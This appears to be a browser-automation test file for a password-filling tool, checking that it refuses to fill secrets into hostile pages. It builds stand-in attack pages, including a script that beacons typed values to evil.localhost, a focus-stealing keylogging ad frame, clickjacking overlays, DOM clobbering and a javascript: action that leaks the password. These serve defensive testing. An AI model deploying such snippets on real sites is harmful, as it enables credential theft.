// fill_secret_at against hostile pages (docs/fill.md, "How a fill is decided"): real Chromium, the real server over CDP,
// and pages of our own design served on several sites at once (hostile-pages.ts). The attacker
// controls an ad frame, injects markup without script, or posts user content on the site; each
// rule of the contract has at least one test here, and the last test checks that no secret
// reached an answer, a log line, the audit trail or any attacker's host.
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AgentAnswer, type ScriptedAgent, scriptedAgent } from '../../src/demo/agent.js';
import { parseTotp } from '../../src/modules/fill/totp.js';
import { type FillEnvironment, HOSTS, moreLogins, startFillEnvironment } from './harness.js';
import { doc, type PageServer, startPageServer } from './hostile-pages.js';

const LOGIN = HOSTS.login; // the `login` item: login-user, a 25+ character password, an 8-digit TOTP, a concealed PIN
const PARENT = HOSTS.parent; // the `parent` item
const OTP = 'otp.app.localhost'; // the `otp` item: a 6-digit TOTP
const SHORT = 'short.app.localhost'; // the `short` item: an 8-character password
const PATHS = 'paths.app.localhost'; // two items: one for the host, one for its /team path
const EVIL = 'evil.localhost';
const ADS = 'ads.localhost';

/** Absolutely placed at (24, top): overlays in these pages sit exactly on what they cover. */
const at = (top: number, extra = '') => `style="position:absolute; margin:0; left:24px; top:${top}px; ${extra}"`;

/** For an srcdoc attribute. */
const attr = (html: string) => html.replace(/&/g, '&amp;').replace(/"/g, '&quot;');

describe('fill_secret_at on hostile pages', () => {
  let env: FillEnvironment;
  let server: PageServer;
  let page: Page;
  let agent: ScriptedAgent;
  const agents: ScriptedAgent[] = [];
  const codes: string[] = [];

  beforeAll(async () => {
    env = await startFillEnvironment({ extraLogins: moreLogins() });
    server = await startPageServer(Object.values(env.accounts));
    use(env.page);
    registerSharedPages();
  });
  afterAll(async () => {
    await env?.close();
    await server?.close();
  });

  function use(next: Page): void {
    page = next;
    agent = scriptedAgent({
      sesameUrl: env.t.url,
      credential: env.key,
      vaultId: env.vaultId,
      cdpEndpoint: env.chrome.cdpEndpoint,
      page,
    });
    agents.push(agent);
  }

  const url = (host: string, path: string) => server.url(host, path);
  const evil = (path = '/collect') => url(EVIL, path);
  const $ = (selector: string) => page.locator(selector);
  const frame = (first: string, ...rest: string[]) => rest.reduce((f, s) => f.frameLocator(s), page.frameLocator(first));
  const settle = (ms = 150) => new Promise((resolve) => setTimeout(resolve, ms));

  /** Serves `body` at `path` and opens it on `host`. */
  async function show(host: string, path: string, body: string, options: { head?: string; headers?: Record<string, string> } = {}) {
    server.serve(path, doc(body, { head: options.head }), options.headers);
    await page.goto(url(host, path));
  }

  const fill = (target: Locator, field: string, account?: string) => agent.fillAt(target, field, account);
  const filled = (field: string): AgentAnswer => ({ status: 200, body: { filled: true, field } });
  const refused = (reason: string, field: string): AgentAnswer => ({
    status: 200,
    body: { filled: false, field, reason, detail: expect.any(String) },
  });
  /** The requests page scripts sent out (to /collect or /beacon on any host) since `mark`. */
  const beaconsSince = (mark: number) => server.requests.slice(mark).filter((r) => /^\/(collect|beacon)(\?|$)/.test(r.url));

  const loginFields = () => `
    <input id="username" name="username" autocomplete="username" placeholder="Username">
    <input id="password" name="password" type="password" autocomplete="current-password" placeholder="Password">
    <button id="submit" type="submit">Sign in</button>`;
  const loginForm = (action = '/signin/plain') =>
    `<h1>Sign in</h1><form id="form" method="post" action="${action}">${loginFields()}</form>`;

  /** A script that sends every value typed into any input of its document to the attacker's collector. */
  const exfiltrate = () => `<script>
    for (const input of document.querySelectorAll('input')) {
      input.addEventListener('input', () => {
        if (input.value) new Image().src = '${evil()}?' + input.name + '=' + encodeURIComponent(input.value);
      });
    }
  </script>`;

  function registerSharedPages() {
    // The site's own login page, made to be framed.
    server.serve('/frame-login', doc(loginForm('/signin/framed')));
    // An ad that grabs focus in a tight loop and reports whatever reaches it.
    server.serve(
      '/focus-thief',
      doc(`<p>Advertisement</p><input id="grab" name="grab">
      <script>
        const grab = document.getElementById('grab');
        setInterval(() => { window.focus(); grab.focus(); }, 1);
        grab.addEventListener('input', () => { new Image().src = '/collect?grab=' + encodeURIComponent(grab.value); });
        document.addEventListener('keydown', (e) => { new Image().src = '/collect?key=' + encodeURIComponent(e.key); });
      </script>`),
    );
  }

  describe('rule 1: the page is read from the browser at request time', () => {
    it('describes a page opened a moment ago, after the old page closed, not about:blank nor the closed page', async () => {
      const fresh = await page.context().newPage();
      await page.close();
      use(fresh);
      server.serve('/r1/login', doc(loginForm()));
      await page.goto(url(LOGIN, '/r1/login'));
      const listed = await agent.listSecrets();
      // One page open: no "several pages" error, and the origin is the page just opened.
      expect(listed.status).toBe(200);
      expect(listed.body).toMatchObject({ origin: `http://${LOGIN}:${server.port}` });
      expect(listed.body.fields.map((f: { field: string }) => f.field)).toContain('password');
      expect(await fill($('#username'), 'username')).toEqual(filled('username'));
      expect(await $('#username').inputValue()).toBe('login-user');
    });

    it('follows a navigation the page made itself (location.href), and history.pushState', async () => {
      await show(PARENT, '/r1/start', '<h1>Start</h1><p>Redirecting…</p>');
      const target = url(LOGIN, '/r1/login');
      await page.evaluate(`location.href = ${JSON.stringify(target)}`);
      await page.waitForURL(target, { waitUntil: 'commit' });
      expect((await agent.listSecrets()).body).toMatchObject({ origin: `http://${LOGIN}:${server.port}` });
      await $('#username').waitFor();
      expect(await fill($('#username'), 'username')).toEqual(filled('username'));
      expect(await $('#username').inputValue()).toBe('login-user');

      // Back and forth, asking as soon as the new document is committed.
      for (const host of [PARENT, LOGIN, PARENT, LOGIN]) {
        await page.goto(url(host, '/r1/login'), { waitUntil: 'commit' });
        expect((await agent.listSecrets()).body, host).toMatchObject({ origin: `http://${host}:${server.port}` });
      }

      // Same document, new path: the item for /team now fits best.
      await show(PATHS, '/r1/paths', loginForm());
      expect(await fill($('#username'), 'username')).toEqual(filled('username'));
      expect(await $('#username').inputValue()).toBe('paths-root-user');
      await page.evaluate("history.pushState({}, '', '/team/login')");
      expect(await fill($('#username'), 'username')).toEqual(filled('username'));
      expect(await $('#username').inputValue()).toBe('paths-team-user');
    });
  });

  describe('rule 2: the element at (x, y), through frames and shadow roots', () => {
    const field = (mode: 'open' | 'closed') => `<script>
      customElements.define('ds-field-${mode}', class extends HTMLElement {
        connectedCallback() {
          // Rendered once connected: a parser-created element has no attributes yet in its constructor.
          if (this.input) return;
          const root = this.attachShadow({ mode: '${mode}' });
          root.innerHTML = '<style>input { display: block; width: 260px; height: 32px; margin: 10px 0; font: inherit; }</style>'
            + '<input type="' + (this.getAttribute('type') || 'text') + '" autocomplete="' + this.getAttribute('autocomplete') + '">';
          this.input = root.querySelector('input');
          (window.closedInputs ||= []).push(this.input);
        }
        get value() { return this.input.value; }
      });
    </script>`;
    const submitScript = (tag: string) => `<p id="result"></p><script>
      document.getElementById('form').addEventListener('submit', async (event) => {
        event.preventDefault();
        const value = (id) => document.querySelector('#' + id)?.value ?? document.querySelector('ds-login').shadowRoot.querySelector('#' + id).value;
        const response = await fetch('/signin/${tag}', { method: 'POST', headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ username: value('username'), password: value('password') }) });
        document.getElementById('result').textContent = await response.text();
      });
    </script>`;

    it('fills inputs inside the open shadow roots of design-system components, and the site accepts the login', async () => {
      await show(
        LOGIN,
        '/r2/open',
        `${field('open')}<form id="form">
          <ds-field-open id="username" autocomplete="username"></ds-field-open>
          <ds-field-open id="password" type="password" autocomplete="current-password"></ds-field-open>
          <button id="submit" type="submit">Sign in</button></form>${submitScript('shadow')}`,
      );
      expect(await fill($('#username input'), 'username')).toEqual(filled('username'));
      expect(await fill($('#password input'), 'password')).toEqual(filled('password'));
      await agent.click($('#submit'));
      await expect.poll(() => $('#result').textContent()).toBe('Signed in as login-user');
      expect(server.lastSignIn('shadow')).toMatchObject({ username: 'login-user', ok: true });
    });

    it('fills inputs in nested open shadow roots (a component inside a component)', async () => {
      await show(
        LOGIN,
        '/r2/nested',
        `${field('open')}<form id="form"><ds-login></ds-login><button id="submit" type="submit">Sign in</button></form>
        <script>
          customElements.define('ds-login', class extends HTMLElement {
            constructor() {
              super();
              this.attachShadow({ mode: 'open' }).innerHTML =
                '<ds-field-open id="username" autocomplete="username"></ds-field-open>'
                + '<ds-field-open id="password" type="password" autocomplete="current-password"></ds-field-open>';
            }
          });
        </script>${submitScript('nested-shadow')}`,
      );
      expect(await fill($('ds-login #username input'), 'username')).toEqual(filled('username'));
      expect(await fill($('ds-login #password input'), 'password')).toEqual(filled('password'));
      await agent.click($('#submit'));
      await expect.poll(() => $('#result').textContent()).toBe('Signed in as login-user');
    });

    it('refuses an input inside a closed shadow root, saying so, rather than guess', async () => {
      await show(
        LOGIN,
        '/r2/closed',
        `${field('closed')}<form id="form">
          <ds-field-closed id="username" autocomplete="username"></ds-field-closed>
          <ds-field-closed id="password" type="password" autocomplete="current-password"></ds-field-closed></form>`,
      );
      for (const [selector, name] of [
        ['#username', 'username'],
        ['#password', 'password'],
      ] as const) {
        const answer = await fill($(selector), name);
        expect(answer).toEqual(refused('not_editable', name));
        expect(answer.body.detail).toMatch(/shadow root/i);
      }
      expect(await page.evaluate('closedInputs.map((input) => input.value)')).toEqual(['', '']);
    });
  });

  describe('rule 3: every frame on the way down is same-site with the page; opaque origins never are', () => {
    it('refuses the login form of the site framed by an ad frame of another site, on the site itself', async () => {
      server.serve('/ad-wrapper', doc(`<p>Advertisement</p><iframe id="inner" src="${url(LOGIN, '/frame-login')}"></iframe>`));
      await show(
        PARENT,
        '/r3/nested',
        `<h1>Home</h1><iframe id="outer" src="${url(ADS, '/ad-wrapper')}" style="width:440px; height:420px"></iframe>`,
      );
      const inner = frame('#outer', '#inner');
      await inner.locator('#password').waitFor();
      expect(await fill(inner.locator('#username'), 'username')).toEqual(refused('cross_site_frame', 'username'));
      expect(await fill(inner.locator('#password'), 'password')).toEqual(refused('cross_site_frame', 'password'));
      expect(await inner.locator('#username').inputValue()).toBe('');
      expect(await inner.locator('#password').inputValue()).toBe('');
    });

    it('refuses frames with an opaque origin (sandbox, CSP sandbox, data:), and their scripts collect nothing', async () => {
      const form = `${loginForm('/signin/sandboxed')}${exfiltrate()}`;
      server.serve('/r3/csp-sandboxed', doc(form), { 'content-security-policy': 'sandbox allow-scripts allow-forms' });
      server.serve('/r3/plain-login', doc(form));
      const cases: [string, string][] = [
        ['sandboxed srcdoc', `<iframe id="frame" sandbox="allow-scripts allow-forms" srcdoc="${attr(doc(form))}"></iframe>`],
        [
          'sandboxed same-site src',
          `<iframe id="frame" sandbox="allow-scripts allow-forms" src="${url(LOGIN, '/r3/plain-login')}"></iframe>`,
        ],
        ['CSP sandbox header', `<iframe id="frame" src="${url(LOGIN, '/r3/csp-sandboxed')}"></iframe>`],
        ['data: URL', `<iframe id="frame" src="data:text/html,${encodeURIComponent(doc(form))}"></iframe>`],
      ];
      for (const [name, markup] of cases) {
        const mark = server.requests.length;
        await show(LOGIN, `/r3/opaque-${name.replace(/\W+/g, '-')}`, `<h1>${name}</h1>${markup}`);
        const framed = frame('#frame');
        await framed.locator('#password').waitFor();
        expect(await fill(framed.locator('#username'), 'username'), name).toEqual(refused('cross_site_frame', 'username'));
        expect(await fill(framed.locator('#password'), 'password'), name).toEqual(refused('cross_site_frame', 'password'));
        await settle();
        expect(await framed.locator('#password').inputValue(), name).toBe('');
        expect(beaconsSince(mark), name).toEqual([]);
      }
    });

    it("an opaque frame whose script fakes the page's origin and replaces DOM functions is still refused", async () => {
      // window.origin is [Replaceable]: in the page's own JavaScript world it says whatever the page
      // sets. Sesame reads it (and calls the DOM) from an isolated world the page cannot reach.
      const liar = `<script>
        const claimed = ${JSON.stringify(url(LOGIN, '/').replace(/\/$/, ''))};
        Object.defineProperty(window, 'origin', { get: () => claimed, configurable: true });
        Object.defineProperty(Document.prototype, 'domain', { get: () => ${JSON.stringify(LOGIN)} });
        Document.prototype.elementFromPoint = function () { return document.getElementById('password'); };
        Document.prototype.execCommand = function () { return true; };
        window.getComputedStyle = () => ({ opacity: '1', filter: 'none', paddingLeft: '0', paddingTop: '0' });
      </script>`;
      const form = `${loginForm('/signin/sandboxed')}${exfiltrate()}${liar}`;
      server.serve('/r3/liar', doc(form));
      for (const markup of [
        `<iframe id="frame" sandbox="allow-scripts allow-forms" srcdoc="${attr(doc(form))}"></iframe>`,
        `<iframe id="frame" sandbox="allow-scripts allow-forms" src="${url(LOGIN, '/r3/liar')}"></iframe>`,
      ]) {
        const mark = server.requests.length;
        await show(LOGIN, '/r3/liar-host', `<h1>Comments</h1>${markup}`);
        const framed = frame('#frame');
        await framed.locator('#password').waitFor();
        expect(await framed.locator('#password').evaluate(() => (globalThis as unknown as { origin: string }).origin)).not.toBe('null'); // the lie works in its own world
        expect(await fill(framed.locator('#password'), 'password')).toEqual(refused('cross_site_frame', 'password'));
        await settle();
        expect(await framed.locator('#password').inputValue()).toBe('');
        expect(beaconsSince(mark)).toEqual([]);
      }
    });

    it('fills a same-origin srcdoc frame (and a sandboxed one that keeps its origin), and the site accepts the login', async () => {
      for (const sandbox of ['', 'sandbox="allow-same-origin allow-scripts allow-forms"']) {
        await show(
          LOGIN,
          `/r3/srcdoc${sandbox ? '-kept' : ''}`,
          `<iframe id="frame" ${sandbox} srcdoc="${attr(doc(loginForm('/signin/srcdoc')))}"></iframe>`,
        );
        const framed = frame('#frame');
        expect(await fill(framed.locator('#username'), 'username'), sandbox).toEqual(filled('username'));
        expect(await fill(framed.locator('#password'), 'password'), sandbox).toEqual(filled('password'));
        await agent.click(framed.locator('#submit'));
        await expect
          .poll(() =>
            framed
              .locator('#result')
              .textContent()
              .catch(() => null),
          )
          .toBe('Signed in as login-user');
        expect(server.lastSignIn('srcdoc')).toMatchObject({ host: LOGIN, ok: true });
      }
    });
  });

  describe('rule 4: only enabled, writable text inputs and textareas', () => {
    it('refuses inputs in an inert subtree, and behind a modal dialog', async () => {
      await show(
        LOGIN,
        '/r4/inert',
        `<div inert><input id="inert" name="username" autocomplete="username"></div>
         <input id="behind" name="username" autocomplete="username">
         <dialog id="dialog"><p>Cookie settings</p><button>OK</button></dialog>
         <script>document.getElementById('dialog').showModal();</script>`,
      );
      for (const selector of ['#inert', '#behind']) {
        expect(await fill($(selector), 'username'), selector).toEqual(refused('not_editable', 'username'));
        expect(await $(selector).inputValue()).toBe('');
      }
    });

    it('refuses editable-looking things that are not text inputs', async () => {
      await show(
        LOGIN,
        '/r4/kinds',
        `<div id="rich" contenteditable="true" style="width:260px; height:32px; border:1px solid">type here</div>
         <input id="date" type="date"><input id="range" type="range">
         <fieldset disabled><input id="fieldset" name="username"></fieldset>`,
      );
      for (const selector of ['#rich', '#date', '#range', '#fieldset']) {
        expect(await fill($(selector), 'username'), selector).toEqual(refused('not_editable', 'username'));
      }
      expect(await $('#rich').textContent()).toBe('type here');
    });
  });

  describe('rule 5: only what a person can see, and what a click at (x, y) would hit', () => {
    it('refuses invisible, nearly transparent and tiny inputs laid over or beside the real one', async () => {
      const decoy = `<input id="decoy" type="password" autocomplete="current-password" ${at(100)}>`;
      const cases: [string, string][] = [
        ['opacity:0 over a decoy', `${decoy}<input id="target" type="password" ${at(100, 'z-index:2; opacity:0')}>`],
        [
          'opacity 0.05 on an ancestor',
          `${decoy}<div style="position:absolute; left:0; top:0; z-index:2; opacity:0.05"><input id="target" type="password" ${at(100)}></div>`,
        ],
        [
          'opacities multiplied: 0.4 × 0.4',
          `${decoy}<div style="position:absolute; left:0; top:0; z-index:2; opacity:0.4"><input id="target" type="password" ${at(100, 'opacity:0.4')}></div>`,
        ],
        [
          'filter: opacity(0.1) on an ancestor',
          `${decoy}<div style="position:absolute; left:0; top:0; z-index:2; filter:opacity(0.1)"><input id="target" type="password" ${at(100)}></div>`,
        ],
        // At (24, 100), where the agent aims: the centre of a 1×1 box rounds off it.
        ['1×1 px', `<input id="target" type="password" ${at(100, 'width:1px; height:1px; padding:0; border:0')}>`],
        ['3 px tall', `<input id="target" type="password" ${at(100, 'width:200px; height:3px; padding:0; border:0')}>`],
      ];
      for (const [name, markup] of cases) {
        await show(LOGIN, `/r5/${name.replace(/\W+/g, '-')}`, `<h1>Sign in</h1><form action="/signin/plain">${markup}</form>`);
        const answer = name === '1×1 px' ? await agent.fillAtPoint({ x: 24, y: 100 }, 'password') : await fill($('#target'), 'password');
        expect(answer, name).toEqual(refused('not_visible', 'password'));
        expect(await $('#target').inputValue(), name).toBe('');
        if (markup.includes('decoy')) expect(await $('#decoy').inputValue(), name).toBe('');
      }
    });

    it('refuses an input hidden with visibility:hidden', async () => {
      await show(LOGIN, '/r5/hidden', `<input id="target" type="password" ${at(100, 'visibility:hidden')}>`);
      const answer = await fill($('#target'), 'password');
      // A hidden element is not hit by elementFromPoint, so the element found may be the page behind it.
      expect(answer.body).toMatchObject({ filled: false, field: 'password' });
      expect(['not_visible', 'not_editable']).toContain(answer.body.reason);
      expect(await $('#target').inputValue()).toBe('');
    });

    it('refuses a same-site login frame made transparent over a decoy (clickjacking)', async () => {
      const decoys = `<h1>Win a prize</h1><p>Type your name to enter the draw.</p>
        <input id="decoy-user" ${at(130)}><input id="decoy-pass" ${at(180)}>`;
      const cases: [string, string][] = [
        [
          'opacity:0 on the iframe',
          `<iframe id="frame" src="${url(LOGIN, '/frame-login')}" style="position:absolute; left:0; top:40px; z-index:3; opacity:0"></iframe>`,
        ],
        [
          'opacity 0.1 on an ancestor of the iframe',
          `<div style="position:absolute; left:0; top:40px; z-index:3; opacity:0.1"><iframe id="frame" src="${url(LOGIN, '/frame-login')}"></iframe></div>`,
        ],
      ];
      for (const [name, markup] of cases) {
        await show(PARENT, `/r5/clickjack-${name.replace(/\W+/g, '-')}`, `${decoys}${markup}`);
        const framed = frame('#frame');
        await framed.locator('#password').waitFor();
        expect(await fill(framed.locator('#username'), 'username'), name).toEqual(refused('not_visible', 'username'));
        expect(await fill(framed.locator('#password'), 'password'), name).toEqual(refused('not_visible', 'password'));
        expect(await framed.locator('#password').inputValue(), name).toBe('');
      }
    });

    /** The site's real login form, placed so that injected markup can be laid exactly over it. */
    const placedLogin = `<h1>Community forum</h1>
      <form id="login" method="post" action="/signin/forum">
        <input id="username" name="username" autocomplete="username" placeholder="Username" ${at(100)}>
        <input id="password" name="password" type="password" autocomplete="current-password" placeholder="Password" ${at(150)}>
        <button id="submit" type="submit" ${at(200)}>Sign in</button>
      </form>`;

    it('markup without script: an invisible password input and submit button over the real ones post nothing to the attacker', async () => {
      // A forum post whose markup (no script) lays a form posting to another site over the real
      // password input and the real "Sign in" button: made invisible with opacity, or with
      // transparent colours (which no visibility rule can see: the form rule must catch it).
      const cases: [string, string, string[]][] = [
        ['opacity:0', 'z-index:10; opacity:0; width:260px; height:32px', ['not_visible', 'cross_site_form']],
        [
          'transparent colours',
          'z-index:10; width:260px; height:32px; background:transparent; border:0; color:transparent; caret-color:transparent',
          ['cross_site_form'],
        ],
      ];
      for (const [name, style, reasons] of cases) {
        await show(
          LOGIN,
          `/r5/forum-${name.replace(/\W+/g, '-')}`,
          `${placedLogin}
          <div class="post">
            <form method="post" action="${evil()}">
              <input name="password" type="password" ${at(150, style)}>
              <button type="submit" ${at(200, style)}>Sign in</button>
            </form>
          </div>`,
        );
        const mark = server.requests.length;
        expect(await fill($('#username'), 'username'), name).toEqual(filled('username'));
        const answer = await fill($('#password'), 'password');
        expect(answer.body, name).toMatchObject({ filled: false, field: 'password' });
        expect(reasons, name).toContain(answer.body.reason);
        await agent.click($('#submit'));
        await page.waitForURL(evil());
        const posted = server.requests.slice(mark).filter((r) => r.host === EVIL && r.method === 'POST');
        expect(posted, name).toHaveLength(1);
        expect(new URLSearchParams(posted[0]?.body).get('password'), name).toBe('');
      }
    });

    it('markup without script: a transparent label over the real input does not redirect the value to a field elsewhere on the site', async () => {
      // Clicking a label acts on its control: a transparent label over the real password input
      // points at a password input in the forum's own comment form (same site, so no form rule
      // applies), and another over "Sign in" points at that form's "Post" button.
      await show(
        LOGIN,
        '/r5/label',
        `${placedLogin}
        <div class="post">
          <label for="stash" ${at(150, 'z-index:10; opacity:0; width:260px; height:32px')}>x</label>
          <label for="post" ${at(200, 'z-index:10; opacity:0; width:260px; height:32px')}>x</label>
          <form id="comment" method="post" action="/beacon">
            <input id="stash" name="comment" type="password" placeholder="Comment" ${at(400)}>
            <button id="post" type="submit" ${at(450)}>Post comment</button>
          </form>
        </div>`,
      );
      const mark = server.requests.length;
      const answer = await fill($('#password'), 'password');
      // Refused (the click lands on an invisible label, whose control is somewhere else). Soft: when
      // these fail, the rest of the test shows where the value went.
      expect.soft(answer.body).toMatchObject({ filled: false, field: 'password' });
      expect.soft(await $('#stash').inputValue()).toBe('');
      await agent.click($('#submit'));
      await page.waitForURL(url(LOGIN, '/beacon'));
      const posted = server.requests.slice(mark).filter((r) => r.url === '/beacon' && r.method === 'POST');
      expect(posted).toHaveLength(1);
      expect(new URLSearchParams(posted[0]?.body).get('comment')).toBe('');
    });

    it('refuses an opaque overlay drawn over the input (the overlay is what a click hits)', async () => {
      await show(
        LOGIN,
        '/r5/overlay',
        `<form action="/signin/plain"><input id="password" name="password" type="password" ${at(100)}>
         <div id="overlay" ${at(95, 'z-index:2; width:280px; height:42px; background:#fff')}>Enter password</div></form>`,
      );
      expect(await fill($('#password'), 'password')).toEqual(refused('not_editable', 'password'));
      expect(await $('#password').inputValue()).toBe('');
    });
  });

  describe('rule 6: the form must post to the same site, over http(s)', () => {
    it('refuses inputs of a form that posts elsewhere, however the target is set or hidden', async () => {
      const fields = loginFields();
      const cases: [string, string][] = [
        ['action to another site', `<form method="post" action="${evil()}">${fields}</form>`],
        [
          'formaction on a submit button',
          `<form method="post" action="/signin/plain">${fields}<button type="submit" formaction="${evil()}">Go</button></form>`,
        ],
        [
          'formaction on an input type=submit',
          `<form method="post" action="/signin/plain">${fields}<input type="submit" formaction="${evil()}" value="Go"></form>`,
        ],
        [
          'formaction on an input type=image',
          `<form method="post" action="/signin/plain">${fields}<input type="image" alt="Go" formaction="${evil()}"></form>`,
        ],
        [
          'a button outside the form, joined by form="id"',
          `<form id="f" method="post">${fields}</form><button type="submit" form="f" formaction="${evil()}">Go</button>`,
        ],
        [
          'javascript: action',
          `<form action="javascript:void(new Image().src='${evil()}?p='+encodeURIComponent(document.getElementById('password').value))">${fields}</form>`,
        ],
        ['data: action', `<form method="post" action="data:text/html,thanks">${fields}</form>`],
        ['mailto: action', `<form method="post" action="mailto:collect@${EVIL}">${fields}</form>`],
        ['plain http to a non-loopback host', `<form method="post" action="http://insecure.test:${server.port}/collect">${fields}</form>`],
        // DOM clobbering: named inputs shadow the form's own properties.
        [
          'an input named "action" hides the real action',
          `<form method="post" action="${evil()}"><input type="hidden" name="action" value="/signin/plain">${fields}</form>`,
        ],
        [
          'an input named "getAttribute"',
          `<form method="post" action="${evil()}"><input type="hidden" name="getAttribute">${fields}</form>`,
        ],
        [
          'an input named "elements" hides the formaction button',
          `<form method="post" action="/signin/plain"><input type="hidden" name="elements">${fields}<button type="submit" formaction="${evil()}">Go</button></form>`,
        ],
      ];
      for (const [name, markup] of cases) {
        await show(LOGIN, `/r6/${name.replace(/\W+/g, '-')}`, `<h1>Sign in</h1>${markup}`);
        expect(await fill($('#username'), 'username'), name).toEqual(refused('cross_site_form', 'username'));
        expect(await fill($('#password'), 'password'), name).toEqual(refused('cross_site_form', 'password'));
        expect(await $('#username').inputValue(), name).toBe('');
        expect(await $('#password').inputValue(), name).toBe('');
      }
    });

    it('fills a form posting to another host of the same site, a form without action, and inputs outside any form', async () => {
      const cases: [string, string][] = [
        ['same site, other host', `<form method="post" action="${url(PARENT, '/signin/sibling')}">${loginFields()}</form>`],
        ['no action', `<form method="post">${loginFields()}</form>`],
        ['no form', loginFields()],
      ];
      for (const [name, markup] of cases) {
        await show(LOGIN, `/r6/ok-${name.replace(/\W+/g, '-')}`, `<h1>Sign in</h1>${markup}`);
        expect(await fill($('#username'), 'username'), name).toEqual(filled('username'));
        expect(await fill($('#password'), 'password'), name).toEqual(filled('password'));
      }
      await show(LOGIN, '/r6/ok-submit', `<form method="post" action="${url(PARENT, '/signin/sibling')}">${loginFields()}</form>`);
      await fill($('#username'), 'username');
      await fill($('#password'), 'password');
      await agent.click($('#submit'));
      await expect.poll(() => $('#result').textContent()).toBe('Signed in as login-user');
      expect(server.lastSignIn('sibling')).toMatchObject({ host: PARENT, ok: true });
    });
  });

  describe('rule 7: concealed values only into password inputs, and never a stored password into a new-password box', () => {
    it('refuses new-password inputs and textareas for the password, but fills the current-password input', async () => {
      await show(
        LOGIN,
        '/r7/signup',
        `<h1>Change your password</h1><form method="post">
          <input id="current" type="password" autocomplete="current-password">
          <input id="new" type="password" autocomplete="new-password">
          <input id="sectioned" type="password" autocomplete="section-change new-password">
          <input id="upper" type="password" autocomplete="NEW-PASSWORD">
          <textarea id="notes"></textarea></form>`,
      );
      for (const selector of ['#new', '#sectioned', '#upper']) {
        expect(await fill($(selector), 'password'), selector).toEqual(refused('new_password_field', 'password'));
        expect(await $(selector).inputValue()).toBe('');
      }
      expect(await fill($('#notes'), 'password')).toEqual(refused('not_a_password_input', 'password'));
      expect(await fill($('#notes'), 'PIN')).toEqual(refused('not_a_password_input', 'PIN'));
      expect(await $('#notes').inputValue()).toBe('');
      expect(await fill($('#current'), 'password')).toEqual(filled('password'));
      expect(await $('#current').inputValue()).toBe(env.accounts.login?.password);
    });
  });

  describe('rule 8: a value longer than maxlength is refused before anything is typed', () => {
    it('refuses too_long and leaves the input as it was; a value that fits exactly is filled', async () => {
      await show(
        LOGIN,
        '/r8/login',
        `<form method="post"><input id="username" name="username" maxlength="8" value="draft">
         <input id="password" name="password" type="password" maxlength="16"></form>`,
      );
      expect(await fill($('#username'), 'username')).toEqual(refused('too_long', 'username'));
      expect(await $('#username').inputValue()).toBe('draft');
      expect(await fill($('#password'), 'password')).toEqual(refused('too_long', 'password'));
      expect(await $('#password').inputValue()).toBe('');

      await show(
        SHORT,
        '/r8/short',
        `<form method="post" action="/signin/short"><input id="username" name="username" maxlength="10">
         <input id="tight" type="password" maxlength="7">
         <input id="password" name="password" type="password" maxlength="8"><button id="submit">Sign in</button></form>`,
      );
      expect(await fill($('#tight'), 'password')).toEqual(refused('too_long', 'password'));
      expect(await $('#tight').inputValue()).toBe('');
      expect(await fill($('#username'), 'username')).toEqual(filled('username'));
      expect(await fill($('#password'), 'password')).toEqual(filled('password'));
      await agent.click($('#submit'));
      await expect.poll(() => $('#result').textContent()).toBe('Signed in as short-user');
    });
  });

  describe('rule 9: an item must match the frame', () => {
    it('a look-alike host of another site gets nothing', async () => {
      await show(`${LOGIN}.${EVIL}`, '/r9/login', loginForm('/collect'));
      expect((await agent.listSecrets()).body).toMatchObject({ fields: [] });
      expect(await fill($('#username'), 'username')).toEqual(refused('no_match', 'username'));
      expect(await fill($('#password'), 'password')).toEqual(refused('no_match', 'password'));
      expect(await $('#password').inputValue()).toBe('');
    });
  });

  describe('rule 10: typing is atomic, in the element’s own frame and document', () => {
    it('a cross-site ad frame that grabs focus in a tight loop receives nothing, and the login still works', async () => {
      const mark = server.requests.length;
      await show(
        LOGIN,
        '/r10/ad',
        `${loginForm('/signin/ad')}<iframe id="ad" src="${url(ADS, '/focus-thief')}" style="width:300px; height:120px"></iframe>`,
      );
      const ad = frame('#ad');
      await ad.locator('#grab').waitFor();
      expect(await fill($('#username'), 'username')).toEqual(filled('username'));
      expect(await fill($('#password'), 'password')).toEqual(filled('password'));
      await settle();
      expect(await ad.locator('#grab').inputValue()).toBe('');
      expect(beaconsSince(mark)).toEqual([]);
      expect(await $('#username').inputValue()).toBe('login-user');
      expect(await $('#password').inputValue()).toBe(env.accounts.login?.password);
      await agent.click($('#submit'));
      await expect
        .poll(() =>
          page
            .locator('#result')
            .textContent()
            .catch(() => null),
        )
        .toBe('Signed in as login-user');
    });

    it('a focus handler that navigates away (location.href, form.submit()) does not carry the value into the next document', async () => {
      server.serve(
        '/r10/landing',
        doc(`<h1>Welcome back</h1><input id="landing" type="password" autofocus>
        <script>
          const input = document.getElementById('landing');
          input.addEventListener('input', () => { new Image().src = '/beacon?landing=' + encodeURIComponent(input.value); });
        </script>`),
      );
      const cases: [string, string, string][] = [
        ['location.href', `onfocus="location.href = '/r10/landing'"`, url(LOGIN, '/r10/landing')],
        ['form.submit()', `onfocus="this.form.submit()"`, url(LOGIN, '/beacon')],
      ];
      const answers: Record<string, AgentAnswer> = {};
      for (const [name, handler, next] of cases) {
        const mark = server.requests.length;
        await show(
          LOGIN,
          `/r10/nav-${name.replace(/\W+/g, '-')}`,
          `<form id="form" method="post" action="/beacon"><input id="username" name="username">
           <input id="password" name="password" type="password" ${handler}></form>`,
        );
        answers[name] = await fill($('#password'), 'password');
        await page.waitForURL(next);
        await settle(300);
        if (name === 'location.href') expect(await $('#landing').inputValue(), name).toBe('');
        for (const request of server.requests.slice(mark)) {
          for (const secret of env.secrets()) {
            expect(request.url.includes(encodeURIComponent(secret)) || request.body.includes(encodeURIComponent(secret)), name).toBe(false);
          }
        }
      }
      // Either a refusal (not_landed) or a failed call (the document went away): never "filled".
      for (const [name, answer] of Object.entries(answers)) expect(answer.body?.filled, name).not.toBe(true);
    });

    it('one-character code boxes: an ad frame grabbing focus between the digits gets none of them', async () => {
      const mark = server.requests.length;
      await show(
        OTP,
        '/r10/otp-ad',
        `<h1>Enter the code</h1><form id="form">
          <input type="hidden" name="username" value="otp-user">
          <div style="display:flex; gap:8px">
            ${[0, 1, 2, 3, 4, 5].map((i) => `<input class="box" id="box${i}" maxlength="1" inputmode="numeric" style="width:36px">`).join('')}
          </div><button id="submit" type="submit">Verify</button></form>
        <p id="result"></p>
        <iframe id="ad" src="${url(ADS, '/focus-thief')}" style="width:300px; height:120px"></iframe>
        <script>
